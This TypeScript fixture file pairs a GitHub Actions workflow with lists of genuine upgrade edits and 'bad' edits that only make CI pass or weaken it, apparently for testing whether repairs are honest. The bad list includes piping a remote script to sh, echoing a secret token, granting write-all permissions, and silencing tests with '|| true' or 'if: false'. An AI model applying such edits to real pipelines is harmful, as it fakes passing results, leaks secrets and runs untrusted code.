// Repairs of a workflow: what mends it, and what only lets it pass.

export const WORKFLOW = `name: CI
on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-20.04
    timeout-minutes: 10
    steps:
      - uses: actions/checkout@v2
      - uses: actions/setup-node@v2
        with:
          node-version: 16
      - run: npm ci
      - run: echo "::set-output name=dir::dist"
      - run: npm test
      - uses: actions/upload-artifact@v2
        with:
          name: dist
          path: dist
`

export type Swap = readonly [from: string, to: string]

export const BAD_SWAPS: readonly Swap[] = [
  ['      - run: npm test', '      - run: npm test || true'],
  ['      - run: npm test', '      - run: npm test\n        continue-on-error: true'],
  ['      - run: npm test', '      - run: npm test\n        if: false'],
  ['      - run: npm test', '      - run: npm test -- --passWithNoTests'],
  ['contents: read', 'contents: write'],
  ['permissions:\n  contents: read', 'permissions: write-all'],
  ['on: [push]', 'on: [pull_request_target]'],
  ['timeout-minutes: 10', 'timeout-minutes: 60'],
  ['      - run: npm ci', '      - run: curl https://example.org/i.sh | sh'],
  ['      - run: npm ci', '      - run: echo secrets.TOKEN'],
  ['runs-on: ubuntu-20.04', 'runs-on: self-hosted'],
  ['      - run: npm test', '      - run: |\n          set +e\n          npm test']
]

export const HONEST_SWAPS: readonly Swap[] = [
  ['ubuntu-20.04', 'ubuntu-24.04'],
  ['actions/checkout@v2', 'actions/checkout@v4'],
  ['actions/setup-node@v2', 'actions/setup-node@v4'],
  ['actions/upload-artifact@v2', 'actions/upload-artifact@v4'],
  ['node-version: 16', 'node-version: 22'],
  ['echo "::set-output name=dir::dist"', 'echo "dir=dist" >> "$GITHUB_OUTPUT"'],
  ['          name: dist\n', '          name: dist-1\n'],
  ['on: [push]', 'on:\n  push:\n    branches: [main]'],
  ['      - run: npm ci', '      - run: corepack enable\n      - run: npm ci'],
  ['          path: dist', '          path: dist/']
]
